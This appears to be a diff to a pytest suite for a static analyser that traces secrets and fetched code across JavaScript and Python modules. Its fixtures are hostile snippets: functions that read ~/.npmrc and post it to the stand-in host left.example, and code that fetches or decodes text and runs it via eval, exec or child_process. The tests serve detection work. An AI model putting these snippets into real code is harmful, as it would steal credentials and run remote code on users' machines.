@@ -6,7 +6,7 @@ import pytest
 
 from fimci import readers, sides
 from fimci.look import take
-from fimci.model import Capability, Record, Unread
+from fimci.model import Capability, Record
 from fimci.reach import settled
 from fimci.snapshot import Entry
 
@@ -39,7 +39,8 @@ SEND = {
         "module.exports = { send };"
     ),
     "helped": (
-        'const post = (x) => fetch("https://left.example/", { body: x });\nexports.send = (y) => post(btoa(y));'
+        'const post = (x) => fetch("https://left.example/", { body: x });\n'
+        "exports.send = (y) => post(btoa(y));"
     ),
     "module": "export async function send(x) { await fetch(`https://left.example/?${x}`); }",
     "axios": (
@@ -133,3 +134,218 @@ def test_so_it_is_from_the_one_function_of_a_file(grab: str, passed: str) -> Non
 @pytest.mark.parametrize("send", SEND.values(), ids=SEND)
 def test_whatever_sends_it(send: str) -> None:
     assert told(package(PASS["taken out"], GRAB["member"], send)) == CHAIN
+
+
+#: The same for Python.
+PYTHON_READ = "open(os.path.expanduser('~/.npmrc')).read()"
+PYTHON_GRAB = {
+    "function": f"def grab():\n    return {PYTHON_READ}\n",
+    "kept": f"def grab():\n    text = {PYTHON_READ}\n    return {{'text': text}}\n",
+    "asynchronous": f"async def grab():\n    return {PYTHON_READ}\n",
+    "helped": f"def read():\n    return {PYTHON_READ}\n\ndef grab():\n    return read().strip()\n",
+}
+PYTHON_SEND = {
+    "function": "def send(x):\n    requests.post('https://left.example/', data=x)\n",
+    "json": "def send(x):\n    requests.put('https://left.example/', json={'x': x})\n",
+    "helped": (
+        "def post(y):\n    requests.post('https://left.example/', data=y)\n\n"
+        "def send(x):\n    post(x.encode())\n"
+    ),
+    "asynchronous": (
+        "async def send(x):\n    async with httpx.AsyncClient() as line:\n"
+        "        await line.post('https://left.example/', data=x)\n"
+    ),
+}
+PYTHON_PASS = {
+    "at once": "from .grab import grab\nfrom .send import send\nsend(grab())\n",
+    "named": "from .grab import grab as a\nfrom .send import send as b\nb(json.dumps({'k': a()}))\n",
+    "modules": "from . import grab, send\nsend.send(grab.grab())\n",
+    "absolute": "from pkg.grab import grab\nimport pkg.send\npkg.send.send(grab())\n",
+    "a variable": (
+        "from .grab import grab\nfrom .send import send\n\n"
+        "def main():\n    k = grab()\n    send(k)\n\nmain()\n"
+    ),
+    "awaited": (
+        "import asyncio\nfrom .grab import grab\nfrom .send import send\n\n"
+        "async def main():\n    k = await grab()\n    await send(base64.b64encode(k.encode()))\n\n"
+        "asyncio.run(main())\n"
+    ),
+    "later": "from .grab import grab\nfrom .send import send\n\ndef run():\n    send(x=grab())\n",
+    "handed": (
+        "import threading\nfrom .grab import grab\nfrom .send import send\n"
+        "threading.Thread(target=send, args=(grab(),)).start()\n"
+    ),
+}
+PYTHON_CHAIN = {("pkg/send.py", "exfiltration", "grab.py -> left.example")}
+
+
+def module(init: str, grab: str, send: str = PYTHON_SEND["function"]) -> dict[str, str]:
+    return {
+        "pkg/__init__.py": init,
+        "pkg/grab.py": f"import os\n\n{grab}",
+        "pkg/send.py": f"import httpx, requests\n\n{send}",
+    }
+
+
+@pytest.mark.parametrize("passed", PYTHON_PASS.values(), ids=PYTHON_PASS)
+@pytest.mark.parametrize("grab", PYTHON_GRAB.values(), ids=PYTHON_GRAB)
+def test_a_secret_is_followed_from_module_to_module(grab: str, passed: str) -> None:
+    assert told(module(passed, grab)) == PYTHON_CHAIN
+
+
+@pytest.mark.parametrize("send", PYTHON_SEND.values(), ids=PYTHON_SEND)
+def test_whatever_of_python_sends_it(send: str) -> None:
+    assert told(module(PYTHON_PASS["at once"], PYTHON_GRAB["function"], send)) == PYTHON_CHAIN
+
+
+#: A method of an object that another file makes.
+BOXES = {
+    "of its class": f"class Box {{ grab() {{ return {READ}; }} }}\nmodule.exports = {{ Box }};",
+    "of what makes it": (
+        f"class Box {{ async grab() {{ return {READ}; }} }}\n"
+        "module.exports = { Box: function () { return new Box(); } };"
+    ),
+}
+LINES = {
+    "kept": (
+        'const { Box } = require("./grab");\nconst { Line } = require("./send");\n'
+        "const box = new Box(), line = new Line();\nline.send(await box.grab());"
+    ),
+    "at once": (
+        'import { Box } from "./grab.js";\nimport { Line } from "./send.js";\n'
+        "new Line().send(new Box().grab());"
+    ),
+    "in a function": (
+        'import { Box } from "./grab.js";\nimport { Line } from "./send.js";\n'
+        "export async function run() { const box = new Box(); const k = await box.grab();\n"
+        "  const line = new Line(); await line.send(k); }"
+    ),
+}
+LINE = (
+    'class Line { async send(x) { await fetch("https://left.example/", { body: x }); } }\n'
+    "module.exports = { Line };"
+)
+
+
+@pytest.mark.parametrize("passed", LINES.values(), ids=LINES)
+@pytest.mark.parametrize("box", BOXES.values(), ids=BOXES)
+def test_methods_are_followed_too(box: str, passed: str) -> None:
+    assert told(package(passed, box, LINE)) == CHAIN
+
+
+def test_so_are_those_of_python() -> None:
+    files = {
+        "pkg/__init__.py": (
+            "from .grab import Box\nfrom .send import Line\n\ndef run():\n"
+            "    box, line = Box(), Line()\n    other = Line()\n    other.send(Box().grab())\n"
+        ),
+        "pkg/grab.py": f"import os\n\nclass Box:\n    def grab(self):\n        return {PYTHON_READ}\n",
+        "pkg/send.py": (
+            "import requests\n\nclass Line:\n    def send(self, x):\n"
+            "        requests.post('https://left.example/', data=x)\n"
+        ),
+    }
+    assert told(files) == PYTHON_CHAIN
+
+
+@pytest.mark.parametrize(
+    "between",
+    [
+        'export * from "./grab.js";\nexport * from "./send.js";\n',
+        'export { grab } from "./grab.js";\nexport { send } from "./send.js";\n',
+        'import { grab } from "./grab.js";\nimport { send } from "./send.js";\nexport { grab, send };\n',
+        'module.exports = { ...require("./grab"), ...require("./send") };\n',
+        'exports.grab = require("./grab").grab;\nexports.send = require("./send").send;\n',
+        (
+            'const { grab } = require("./grab");\nconst { send } = require("./send");\n'
+            "exports.grab = async () => { const k = await grab(); return k; };\n"
+            "exports.send = async (x) => send(x);\n"
+        ),
+    ],
+)
+def test_what_a_file_hands_on_is_followed(between: str) -> None:
+    index = 'const { grab, send } = require("./lib");\nsend(grab());'
+    assert told({**package(index, GRAB["member"]), "lib.js": between}) == CHAIN
+
+
+def test_so_it_is_in_python() -> None:
+    files = module("from .grab import grab\nfrom .send import *\n", PYTHON_GRAB["function"])
+    files["pkg/run.py"] = "from pkg import grab, send\n\ndef run():\n    send(grab())\n"
+    assert told(files) == PYTHON_CHAIN
+
+
+FETCHES = {
+    "a.js": 'exports.load = async () => (await fetch("https://left.example/x")).text();',
+    "b.js": "exports.run = (code) => eval(code);",
+}
+
+
+def test_what_one_fetches_another_one_runs() -> None:
+    index = (
+        'const { load } = require("./a");\nconst { run } = require("./b");\n'
+        "exports.start = () => load().then(run);"
+    )
+    files = {"package.json": MANIFEST, "index.js": index, **FETCHES}
+    assert told(files) == {("b.js", "download-and-run", "a.js -> built")}
+
+
+def test_what_one_fetches_is_run_where_it_is_called() -> None:
+    index = (
+        'const { load } = require("./a");\nconst { exec } = require("child_process");\n'
+        "exports.start = async () => { const line = await load(); exec(line); };"
+    )
+    files = {"package.json": MANIFEST, "index.js": index, **FETCHES}
+    assert told(files) == {("index.js", "download-and-run", "a.js -> *")}
+
+
+def test_what_one_decodes_another_one_runs() -> None:
+    index = 'const { load } = require("./a");\nconst { run } = require("./b");\nrun(load(process.argv[2]));'
+    files = {"package.json": MANIFEST, "index.js": index, **FETCHES}
+    files["a.js"] = "exports.load = (text) => Buffer.from(text, 'base64').toString();"
+    assert {(path, name) for path, name, _ in told(files)} == {("b.js", "encoded-payload")}
+
+
+def test_python_fetches_decodes_and_runs() -> None:
+    files = {
+        "pkg/__init__.py": "from .a import load\nfrom .b import run\n\ndef start():\n    run(load())\n",
+        "pkg/a.py": "import requests\n\ndef load():\n    return requests.get('https://left.example/').text\n",
+        "pkg/b.py": "def run(code):\n    exec(code)\n",
+    }
+    assert {(path, name) for path, name, _ in told(files)} == {("pkg/b.py", "download-and-run")}
+    files["pkg/a.py"] = "import base64\n\ndef load(x=0):\n    return base64.b64decode(KEPT[x])\n"
+    assert {(path, name) for path, name, _ in told(files)} == {("pkg/b.py", "encoded-payload")}
+
+
+#: Nothing of the secret goes away.
+QUIET = {
+    "not passed": "grab(); send(1);",
+    "something else": "const k = grab(), l = 1; send(l); return k;",
+    "as who asks": "send({ token: grab() });",
+    "as another parameter": "send(1, grab());",
+    "of another name": "send(other());",
+    "its length": "send(grab().length);",
+}
+
+
+@pytest.mark.parametrize("code", QUIET.values(), ids=QUIET)
+def test_what_is_not_passed_on_is_no_chain(code: str) -> None:
+    load = 'const { grab, other } = require("./grab");\nconst { send } = require("./send");\n'
+    grab = GRAB["member"] + "\nexports.other = () => 1;"
+    assert told(package(f"{load}exports.run = () => {{ {code} }};", grab)) == set()
+    assert told(package(f"{load}exports.run = () => {{ send(grab()); }};", grab)) == CHAIN
+
+
+def test_functions_of_the_file_are_its_own() -> None:
+    assert told(package("function grab() {}\nfunction send(x) {}\nsend(grab());", GRAB["member"])) == set()
+
+
+def test_a_client_that_says_who_asks_is_none() -> None:
+    send = (
+        "exports.send = (url, token) =>\n"
+        "  fetch(`https://left.example/${url}`, { headers: { authorization: `Bearer ${token}` } });"
+    )
+    index = (
+        'const { grab } = require("./grab");\nconst { send } = require("./send");\n'
+        'exports.list = () => send("list", grab());'
+    )
+    assert told(package(index, "exports.grab = () => process.env.LEFT_TOKEN;", send)) == set()
